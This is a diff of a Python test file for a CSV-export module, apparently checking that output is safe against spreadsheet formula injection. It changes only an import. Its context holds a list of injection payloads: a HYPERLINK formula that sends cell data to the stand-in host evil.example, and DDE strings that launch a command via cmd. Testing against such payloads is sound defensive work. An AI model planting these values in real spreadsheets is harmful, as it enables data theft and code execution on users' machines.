@@ -11,10 +11,7 @@ import pytest
 
 from vdeval.store import RunDir, csv_cell, csv_safe_frame, write_results
 
-try:
-    from test_report import make_results, write_run
-except ImportError:  # tests/ as a package
-    from tests.test_report import make_results, write_run
+from helpers import make_results, write_run
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1, "click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
